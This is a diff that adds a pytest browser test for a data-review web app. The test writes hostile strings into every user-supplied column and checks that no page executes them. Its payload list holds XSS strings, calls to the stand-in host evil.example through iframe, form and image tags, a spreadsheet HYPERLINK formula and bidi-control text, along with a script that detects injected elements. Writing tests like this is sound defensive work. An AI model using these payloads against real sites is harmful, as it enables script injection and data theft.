@@ -1,0 +1,108 @@
+"""Texts from outside are shown as they are and do nothing, on every page."""
+
+import shutil
+
+import duckdb
+import pytest
+
+from assay.workspace import Workspace
+from tests.browser.conftest import PAGES
+
+ATTACKS = [
+    "<script>window.stolen = 1; alert('script')</script>",
+    "<img src='https://evil.example/pixel.png' onerror='window.stolen = 1'>",
+    "![picture](https://evil.example/pixel.png)",
+    "<iframe src='https://evil.example/frame'></iframe>",
+    "<form action='https://evil.example'><input name=secret></form>",
+    "[link](javascript:alert(1)) <a href='javascript:alert(1)'>link</a>",
+    "<svg onload=alert(1)><style>@import 'https://evil.example/x.css';</style></svg>",
+    "\u202etxet lortnoc idiB\u202c \u200b\u200b zero width \ufeff",
+    ":material/skull: :red[coloured] $\\text{formula}$ **bold** # head",
+    "=HYPERLINK(\"https://evil.example\",\"click\")",
+    "عربي עברית 日本語 🙂 " + "long " * 4000,
+]
+# Every column of the marts in which people outside write, or which is made from what they write.
+COLUMNS = {
+    "items": ["text", "paired_text", "source_key"],
+    "batches": ["name"],
+    "batch_status": ["name", "reason", "owner"],
+    "projects": ["name"],
+    "questions": ["name"],
+    "resources": ["name"],
+    "labels": ["name", "description"],
+    "answers": ["comment"],
+    "deliveries": ["file_name", "message", "hint", "feed"],
+    "quarantined_rows": ["file_name", "message", "hint", "value", "column_name"],
+    "decisions": ["comment"],
+}
+
+
+@pytest.fixture(scope="module")
+def hostile_warehouse(demo_warehouse: Workspace, tmp_path_factory) -> Workspace:
+    """The demo's build in which every text is an attack."""
+    home = tmp_path_factory.mktemp("hostile") / "data"
+    shutil.copytree(demo_warehouse.home, home, ignore=shutil.ignore_patterns("target", "logs"))
+    workspace = Workspace(home, demo_warehouse.config)
+    with duckdb.connect(str(workspace.current_build)) as build:
+        build.execute("create temp table attacks as select unnest($1) as attack", [ATTACKS])
+        for relation, columns in COLUMNS.items():
+            for column in columns:
+                build.execute(
+                    f"""
+                    update marts.{relation} set {column} =
+                        (select list(attack) from attacks)[1 + rowid % {len(ATTACKS)}]
+                        || coalesce({column}, '')
+                    """
+                )
+        comment = ATTACKS[1].replace("'", "")
+        build.execute(
+            "update marts.review_queue set answers = replace(answers, '\"comment\":null', $1)",
+            [f'"comment":"{comment}"'],
+        )
+        item = build.execute("select min(item_id) from marts.rework_queue").fetchone()[0]
+    (home / "item").write_text(item)
+    return workspace
+
+
+@pytest.fixture(scope="module")
+def visited(serve, tour, hostile_warehouse):
+    return tour(serve(hostile_warehouse))
+
+
+@pytest.mark.parametrize("title", PAGES)
+def test_a_hostile_text_does_nothing(title, visited, hostile_warehouse):
+    page = visited.walk_to(title)
+    if title == "Item":
+        page = visited.open(f"item?item={(hostile_warehouse.home / 'item').read_text()}")
+    page.wait_for_timeout(800)
+    if title == "Review":
+        for _ in range(12):
+            page.keyboard.press("n")
+            page.wait_for_timeout(30)
+        assert page.locator(".text").first.inner_text()
+    assert page.locator("[data-testid=stException]").count() == 0
+    assert visited.foreign == []
+    assert visited.dialogs == []
+    assert page.evaluate("() => window.stolen") is None
+    assert page.evaluate(INJECTED) == []
+
+
+# What an attack would have made of itself; Streamlit's own forms and Vega's empty one are ours.
+INJECTED = """() => {
+    const found = [];
+    const ours = '[data-testid=stForm], .vega-bindings';
+    const look = (root) => {
+        for (const each of root.querySelectorAll('iframe, form'))
+            if (!each.closest(ours)) found.push(each.outerHTML);
+        for (const each of root.querySelectorAll('script, img, a, link')) {
+            const address = String(each.src || each.href || '');
+            if (address.includes('evil') || address.startsWith('javascript'))
+                found.push(each.outerHTML);
+        }
+        for (const each of root.querySelectorAll('script, style'))
+            if (/stolen|evil/.test(each.textContent)) found.push(each.outerHTML);
+        for (const each of root.querySelectorAll('*')) if (each.shadowRoot) look(each.shadowRoot);
+    };
+    look(document);
+    return found;
+}"""
